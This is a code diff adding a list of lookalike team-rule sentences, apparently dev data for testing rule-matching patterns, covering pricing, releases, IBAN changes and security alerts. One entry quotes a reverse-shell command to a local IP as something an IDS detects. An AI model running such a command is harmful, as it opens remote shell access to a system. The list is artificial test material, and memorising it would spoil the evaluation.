@@ -118,3 +118,27 @@ ROUND_THIRTY_FOUR_RULES: list[str] = [
     "Payout accounts change only after a call-back to the account owner.",
     "Folders get the narrowest permissions that work; never chmod 777.",
 ]
+
+# Written beside the patterns that read this round (dev data, never held out): team rules that share their words.
+ROUND_THIRTY_FOUR_LOOKALIKES: list[str] = [
+    "Import bot: prices in the CSV are in cents; set every price field from the cents column.",
+    "Docs assistant: state that the contract is binding only after both signatures are in.",
+    "Summary bot: say that the invoice was paid only when the bank confirms it.",
+    "Bots: admin rights are never handed over; ask IT for temporary access.",
+    "Release bot: never retag a release; cut a new patch version instead.",
+    "Release bot: overwrite the existing release assets only for the nightly channel.",
+    "Update the IBAN in payment.iban when finance sends the new one, after the call-back.",
+    'Our tool-call log lines look like {"type": "function_call", "name": "search_docs", "arguments": {"q": "x"}}.',
+    "It is not true that you should run the full suite before every commit; the pre-push hook does.",
+    "Never chmod -R 777 anything under /etc.",
+    "The IDS alerts on reverse shells such as bash -i >& /dev/tcp/10.0.0.1/4444 in any crontab.",
+    "Send an email to every customer whose card expires this month, with a link to the billing page.",
+    "Email all users whose accounts were suspended for non-payment; finance has the list.",
+    "The secret scanner blocks pushes so that tokens don't leak.",
+    "Publish the internal SDK package to the public npm registry once legal signs off.",
+    "Dismiss all Dependabot alerts for dev-only dependencies after a review.",
+    "Close all the Snyk findings that are fixed on main.",
+    "Pin openssl to the version in the base image; upgrades go through the platform team.",
+    "Translation agent: keep the IBAN placeholders in payment.iban untouched.",
+    "Pricing assistant: set all prices from the price list, never to zero.",
+]
